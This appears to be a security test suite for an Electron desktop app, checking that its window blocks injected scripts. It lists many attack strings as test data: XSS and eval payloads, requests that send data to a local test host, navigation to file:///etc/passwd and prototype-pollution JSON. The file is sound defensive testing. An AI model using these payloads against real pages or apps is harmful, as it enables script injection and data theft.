import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { EVENT_NAMES, REQUEST_NAMES } from '../../common/ipc-names.ts';
import { ENGLISH } from '../../common/languages/english.ts';
import type { AttackedServer } from './attacked-server.ts';
import {
  assertArrivesFromHere,
  attack,
  attackByNavigation,
  attackUntil,
  COLLECT_VIOLATIONS,
  openTriedServer,
} from './attacks.ts';
import { isWineSuite, startSigma, type SigmaApp } from './sigma-app.ts';
import { until, within } from './until.ts';

/** What a script that was smuggled into the page would try in order to reach a server. */
function callsHome({ tcpPort, udpPort }: AttackedServer): readonly string[] {
  const home = `http://127.0.0.1:${tcpPort}`;
  return [
    `fetch('${home}/fetch')`,
    `fetch('${home}/no-cors', { mode: 'no-cors', method: 'POST', body: 'text' })`,
    `{ const request = new XMLHttpRequest(); request.open('GET', '${home}/xhr'); request.send(); }`,
    `new WebSocket('ws://127.0.0.1:${tcpPort}/socket')`,
    `new EventSource('${home}/events')`,
    `navigator.sendBeacon('${home}/beacon', 'text')`,
    `new Image().src = '${home}/image'`,
    `new Audio('${home}/audio').play()`,
    `new FontFace('stolen', 'url(${home}/font)').load()`,
    `import('${home}/module.js')`,
    `add('script', { src: '${home}/script.js' })`,
    `add('link', { rel: 'stylesheet', href: '${home}/style.css' })`,
    `add('link', { rel: 'prefetch', href: '${home}/prefetch' })`,
    `add('link', { rel: 'preload', as: 'image', href: '${home}/preload' })`,
    `add('link', { rel: 'modulepreload', href: '${home}/modulepreload.js' })`,
    `add('link', { rel: 'preconnect', href: '${home}' })`,
    `add('link', { rel: 'icon', href: '${home}/icon.png' })`,
    `add('link', { rel: 'manifest', href: '${home}/manifest' })`,
    `add('iframe', { src: '${home}/frame' })`,
    `add('iframe', { srcdoc: '<img src="${home}/inner">' })`,
    `add('object', { data: '${home}/object' })`,
    `add('embed', { src: '${home}/embed' })`,
    `add('webview', { src: '${home}/webview' })`,
    `add('video', { src: '${home}/video', autoplay: true })`,
    `add('base', { href: '${home}/' })`,
    `new Worker('${home}/worker.js')`,
    `navigator.serviceWorker.register('/worker.js')`,
    `new WebTransport('https://127.0.0.1:${udpPort}/transport')`,
    `connectToPeer('turn:127.0.0.1:${tcpPort}?transport=tcp')`,
    `connectToPeer('stun:127.0.0.1:${udpPort}')`,
    `add('form', { action: '${home}/form', method: 'post' }).submit()`,
    `window.open('${home}/open')`,
    `history.pushState(null, '', '${home}/history')`,
  ];
}

/** How such a script would try to leave the page for that server. */
function leavesForHome({ tcpPort }: AttackedServer): readonly string[] {
  const home = `http://127.0.0.1:${tcpPort}`;
  return [
    `add('meta', { httpEquiv: 'refresh', content: '0;url=${home}/refresh' })`,
    `add('a', { href: '${home}/link', ping: '${home}/ping' }).click()`,
    `add('a', { href: '${home}/download', download: 'setup.exe' }).click()`,
    `location.href = '${home}/location'`,
    `location.replace('${home}/replace')`,
  ];
}

// On a real system the window has other tests.
if (!isWineSuite && process.platform !== 'win32') {
  describe('the confined window', { timeout: 120_000 }, () => {
    let sigma: SigmaApp;
    let address: string;

    before(async () => {
      sigma = await startSigma();
      await sigma.page.addInitScript(COLLECT_VIOLATIONS);
      await sigma.page.reload();
      await sigma.untilShown('service', ENGLISH.health.words.healthy);
      address = sigma.page.url();
    });
    after(() => sigma[Symbol.asyncDispose]());

    /** Checks that the page is still at its address, is the only one, and works. */
    async function assertUnharmed(): Promise<void> {
      assert.equal(sigma.page.url(), address);
      await until(async () => {
        assert.equal(await pageCount(), 1);
      });
      await sigma.page.reload();
      await sigma.untilShown('service', ENGLISH.health.words.healthy);
    }

    /** Also counts pages that the browser has opened but not yet shown. */
    async function pageCount(): Promise<number> {
      const session = await sigma.page.context().newCDPSession(sigma.page);
      const { targetInfos } = await session.send('Target.getTargets');
      await session.detach();
      return targetInfos.filter(({ type }) => type === 'page').length;
    }

    it('needs nothing that its policy forbids', async () => {
      assert.deepEqual(await sigma.page.evaluate('violations'), []);
    });

    it('reaches nothing on the network, whatever its page tries', async () => {
      await using server = await openTriedServer();
      await attack(sigma.page, callsHome(server));
      for (const code of leavesForHome(server)) {
        await attackByNavigation(sigma.page, code);
        assert.equal(sigma.page.url(), address, code);
      }
      const blank = `http://127.0.0.1:${server.tcpPort}/blank`;
      const opening = `add('a', { href: '${blank}', target: '_blank' }).click()`;
      await attackUntil(sigma.page, [opening], 'Page.windowOpen');
      await assertUnharmed();
      await assertArrivesFromHere(server);
    });

    it('runs no script that does not come with Sigma', async () => {
      const injected = 'globalThis.injected.push';
      await sigma.page.evaluate(`globalThis.injected = []`);
      const attacks = [
        `add('script', {}).append('${injected}("text")')`,
        `add('script', { textContent: '${injected}("script")' })`,
        `add('script', { src: 'data:text/javascript,${injected}("data")' })`,
        `add('script', { src: URL.createObjectURL(new Blob(['${injected}("blob")'])) })`,
        `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=${injected}(1)>')`,
        `document.body.setAttribute('onclick', '${injected}("attribute")'); document.body.click()`,
        `document.write('<script>${injected}("written")</' + 'script>')`,
        `document.createRange().createContextualFragment('<img src=x onerror=${injected}(2)>')`,
        `add('a', { href: 'javascript:${injected}("link")' }).click()`,
        `location.href = 'javascript:${injected}("location")'`,
        `add('iframe', { srcdoc: '<script>top.injected.push("frame")</' + 'script>' })`,
        `add('iframe', { src: 'javascript:top.injected.push("frame")' })`,
        `eval('${injected}("eval")')`,
        `(0, eval)('${injected}("indirect eval")')`,
        `new Function('${injected}("function")')()`,
        `setTimeout('${injected}("timer")')`,
        `import('data:text/javascript,${injected}("module")')`,
        `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => ${injected}('worker')`,
        `WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => ${injected}('wasm'))`,
      ];
      const refusals = await attack(sigma.page, attacks);
      assert.ok(refusals.length >= attacks.length, refusals.join());
      assert.deepEqual(await sigma.page.evaluate('injected'), []);
      await assertUnharmed();
    });

    it('turns no text into markup', async () => {
      const attempts = [
        `document.body.innerHTML = '<b>text</b>'`,
        `document.body.insertAdjacentHTML('beforeend', '<b>text</b>')`,
        `new DOMParser().parseFromString('<b>text</b>', 'text/html')`,
        `document.createElement('iframe').srcdoc = '<b>text</b>'`,
        `trustedTypes.createPolicy('any', { createHTML: (text) => text })`,
      ];
      for (const attempt of attempts) {
        assert.equal(
          await sigma.page.evaluate(`(() => { try { ${attempt}; } catch ({ name }) { return name; } })()`),
          'TypeError',
          attempt,
        );
      }
    });

    it('applies no style that does not come with Sigma', async () => {
      const refusals = await attack(sigma.page, [
        `add('style', {}).append('body { outline: 7px solid red }')`,
        `document.body.setAttribute('style', 'outline: 7px solid red')`,
        `add('link', { rel: 'stylesheet', href: 'data:text/css,body { outline: 7px solid red }' })`,
      ]);
      assert.deepEqual(new Set(refusals), new Set(['style-src-elem', 'style-src-attr']));
      assert.notEqual(await sigma.page.evaluate('getComputedStyle(document.body).outlineWidth'), '7px');
    });

    it('gives its page nothing of Node or Electron', async () => {
      const names = [
        'require',
        'process',
        'module',
        'Buffer',
        'global',
        '__dirname',
        'electron',
        'ipcRenderer',
      ];
      const kinds = await sigma.page.evaluate(
        `[${names.map((name) => `typeof globalThis.${name}`).join(', ')}]`,
      );
      assert.deepEqual(
        kinds,
        names.map(() => 'undefined'),
      );
      assert.equal(await sigma.page.evaluate(`'loadURL' in document.createElement('webview')`), false);
    });

    it('exposes the requests and events of the contract, and no more', async () => {
      const names = await sigma.page.evaluate<string[]>('Object.keys(sigma).sort()');
      const events = EVENT_NAMES.map((name) => `on${name.slice(0, 1).toUpperCase()}${name.slice(1)}`);
      assert.deepEqual(names, [...REQUEST_NAMES, ...events].sort());
    });

    it('lets no script replace what it exposes', async () => {
      const changes = [
        `sigma = {}`,
        `window.sigma = {}`,
        `delete window.sigma`,
        `Object.defineProperty(window, 'sigma', { value: {} })`,
        `sigma.perform = () => 'replaced'`,
        `delete sigma.perform`,
        `sigma.more = 1`,
        `Object.setPrototypeOf(sigma, { more: 1 })`,
      ];
      for (const change of changes) {
        await sigma.page.evaluate(`try { ${change} } catch {}`);
        const after = `[typeof sigma.perform, String(sigma.perform).includes('replaced'), 'more' in sigma]`;
        assert.deepEqual(await sigma.page.evaluate(after), ['function', false, false], change);
      }
    });

    it('exposes nothing to a frame inside its page', async () => {
      await sigma.page.evaluate(`new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.onload = resolve;
        document.body.append(frame);
      })`);
      assert.equal(await sigma.page.evaluate(`typeof frames[0].sigma`), 'undefined');
    });

    it('cannot open another window', async () => {
      assert.equal(await sigma.page.evaluate(`window.open('https://example.com/')`), null);
      const attacks = [
        `add('a', { href: 'https://example.com/', target: '_blank' }).click()`,
        `add('a', { href: '/index.html', target: '_blank' }).click()`,
        `add('form', { action: '/index.html', target: '_blank' }).submit()`,
      ];
      await attackUntil(sigma.page, attacks, 'Page.windowOpen');
      await assertUnharmed();
    });

    it('cannot leave its page', async () => {
      const elsewhere = [
        'https://example.com/',
        'app://elsewhere/index.html',
        'app://sigma/main.js',
        'app://sigma/../../package.json',
        'file:///etc/passwd',
        'data:text/html,elsewhere',
        'chrome://version',
        'view-source:app://sigma/index.html',
        'javascript:void(document.title = 1)',
        'ms-settings:',
        'mailto:somebody@example.com',
      ];
      for (const where of elsewhere) {
        await attackByNavigation(sigma.page, `location.href = ${JSON.stringify(where)};`);
        assert.equal(sigma.page.url(), address, where);
      }
      await assertUnharmed();
    });

    it('does not navigate when a file is dropped on it', async () => {
      const folder = await mkdtemp(join(tmpdir(), 'sigma-dropped-'));
      try {
        const file = join(folder, 'dropped.html');
        await writeFile(file, '<!doctype html><title>Dropped</title>');
        // These listeners run after Sigma's own. A refused drag ends with `dragleave` instead of `drop`.
        await sigma.page.evaluate(`globalThis.dragged = new Promise((resolve) => {
          const seen = new Set();
          for (const type of ['dragenter', 'dragover', 'dragleave', 'drop']) {
            addEventListener(type, ({ defaultPrevented, dataTransfer }) => {
              seen.add(type + ' ' + defaultPrevented + ' ' + dataTransfer.dropEffect);
              if (type === 'dragleave' || type === 'drop') resolve([...seen]);
            });
          }
        }); undefined`);
        const session = await sigma.page.context().newCDPSession(sigma.page);
        const data = { items: [], files: [file], dragOperationsMask: 1 };
        for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
          await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
        }
        await session.detach();
        assert.deepEqual(await within(sigma.page.evaluate('dragged'), 'the end of the drag'), [
          'dragenter true none',
          'dragover true none',
          'dragleave false none',
        ]);
        assert.equal(await sigma.page.title(), 'Sigma');
        await assertUnharmed();
      } finally {
        await rm(folder, { recursive: true });
      }
    });

    // If the main process does not refuse a download, the stand-in for Electron ends the process, and Sigma is gone.
    it('downloads nothing', async () => {
      const attacks = [
        `add('a', { href: URL.createObjectURL(new Blob(['text'])), download: 'setup.exe' }).click()`,
        `add('a', { href: 'data:application/octet-stream,text', download: 'setup.exe' }).click()`,
        `add('a', { href: '/index.html', download: 'setup.exe' }).click()`,
      ];
      await attackUntil(sigma.page, attacks, 'Page.downloadWillBegin');
      await assertUnharmed();
    });

    it('is granted no permission', async () => {
      const names = [
        'camera',
        'clipboard-read',
        'geolocation',
        'idle-detection',
        'local-fonts',
        'microphone',
        'midi',
        'notifications',
        'persistent-storage',
        'screen-wake-lock',
        'window-management',
      ];
      const states = await sigma.page.evaluate(
        `Promise.all(${JSON.stringify(names)}.map((name) =>
          navigator.permissions.query({ name }).then(({ state }) => state)))`,
      );
      assert.deepEqual(
        states,
        names.map(() => 'denied'),
      );
    });

    it('gets nothing that needs a permission', async () => {
      // Without a camera or microphone, no permission is asked for.
      const noMedia = /^(NotAllowedError|NotFoundError)$/;
      const refusals: readonly (readonly [request: string, refusal: RegExp])[] = [
        [`navigator.mediaDevices.getUserMedia({ audio: true })`, noMedia],
        [`navigator.mediaDevices.getUserMedia({ video: true })`, noMedia],
        [`navigator.clipboard.readText()`, /^NotAllowedError$/],
        [`navigator.requestMIDIAccess()`, /^NotAllowedError$/],
        [`Notification.requestPermission().then((state) => Promise.reject({ name: state }))`, /^denied$/],
        [
          `new Promise((_, no) => navigator.geolocation.getCurrentPosition(no, ({ code }) => no({ name: code })))`,
          /^1$/,
        ],
      ];
      for (const [request, refusal] of refusals) {
        const result = await sigma.page.evaluate<string>(
          `${request}.then(() => 'granted', ({ name }) => String(name))`,
        );
        assert.match(result, refusal, request);
      }
    });

    it('gets an answer, not an exception, for an invalid request', async () => {
      for (const argument of [`'format'`, '{}', 'undefined', '["install"]', '7']) {
        const answer = await sigma.page.evaluate<{ ok: boolean; error?: { code: number } }>(
          `sigma.perform(${argument})`,
        );
        assert.equal(answer.ok, false, argument);
        assert.equal(answer.error?.code, 87, argument);
      }
      const snapshot = await sigma.page.evaluate<{ ok: boolean }>(`sigma.snapshot('unexpected')`);
      assert.equal(snapshot.ok, false);
    });

    it('changes nothing in the main process through prototypes', async () => {
      const polluted = `JSON.parse('{"__proto__":{"theme":"dark"},"constructor":{"prototype":{"theme":"dark"}}}')`;
      const theme = 'sigma.snapshot().then(({ value }) => value.view.app.settings.theme)';
      const before = await sigma.page.evaluate(theme);
      await sigma.page.evaluate(`sigma.changeSettings(${polluted})`);
      await sigma.page.evaluate(`sigma.reportWindows(${polluted})`);
      assert.equal(await sigma.page.evaluate(theme), before);
      await assertUnharmed();
    });

    // The browser asks no one about an empty page. Whether the page gets there or not, it gets no answers.
    it('gets no more answers once it shows another page', async () => {
      await attackByNavigation(sigma.page, `location.href = 'about:blank';`);
      if (sigma.page.url() !== address) {
        await assert.rejects(sigma.page.evaluate(`sigma.perform('stop')`), /not part of Sigma: perform/);
        await sigma.page.goBack();
      }
      await assertUnharmed();
    });
  });
}
